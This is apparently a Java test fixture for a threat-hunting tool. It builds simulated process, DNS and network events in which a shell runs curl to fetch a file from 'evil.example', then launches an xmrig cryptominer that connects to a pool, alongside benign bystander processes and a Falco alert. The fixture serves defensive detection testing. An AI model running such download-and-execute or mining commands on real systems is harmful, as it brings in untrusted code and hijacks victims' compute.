package dev.vigil.hunt;

import dev.vigil.event.ProcessInfo;

import java.util.ArrayList;
import java.util.List;

/** A small hunt scenario: a shell in workload "web" runs curl, which drops and runs a miner; plus bystanders. */
public final class HuntFixtures {
    public static final String SHA_EVIL = "a".repeat(64);

    private HuntFixtures() {}

    /** NDJSON: 11 events (10 of workload web on sensor s1, 1 of workload batch on s2) and 1 Falco alert. */
    public static String huntData() {
        TestEvents ev = new TestEvents("s1", "web");
        ProcessInfo shell = TestEvents.proc(100, 1, "bash", "/bin/bash", List.of("bash"));
        ProcessInfo curl = TestEvents.proc(200, 100, "curl", "/usr/bin/curl", List.of("curl", "-o", "/tmp/x", "http://evil.example/p"));
        ProcessInfo miner = TestEvents.proc(300, 200, "xmrig", "/tmp/xmrig", List.of("xmrig", "--donate-level=1"));
        ProcessInfo other = TestEvents.proc(400, 1, "nginx", "/usr/sbin/nginx", List.of("nginx"));
        List<String> l = new ArrayList<>();
        l.add(ev.line(ev.exec(shell)));
        l.add(ev.line(ev.exec(curl)));
        l.add(ev.line(ev.dnsQuery(curl, "cdn.Evil.Example.")));
        l.add(ev.line(ev.dnsAnswer(curl, "cdn.evil.example", "198.51.100.7")));
        l.add(ev.line(ev.connect(curl, "198.51.100.7", 443, List.of("cdn.evil.example"))));
        l.add(ev.lineWithSha(ev.exec(miner), SHA_EVIL));
        l.add(ev.lineWithSha(ev.connect(miner, "192.0.2.1", 3333, List.of()), SHA_EVIL));
        l.add(ev.line(ev.exec(other)));
        l.add(ev.line(ev.connect(other, "192.0.2.50", 80, List.of("good.example"))));
        l.add(ev.line(ev.dnsQuery(other, "notevil.example")));
        TestEvents ev2 = new TestEvents("s2", "batch");
        l.add(ev2.line(ev2.exec(TestEvents.proc(100, 1, "python", "/usr/bin/python3", List.of("python", "job.py")))));
        l.add(TestEvents.falcoAlert("Drop and execute new binary", "Critical", "2026-01-01T00:00:00Z", "ctr-web", 300, "xmrig"));
        return String.join("\n", l);
    }
}
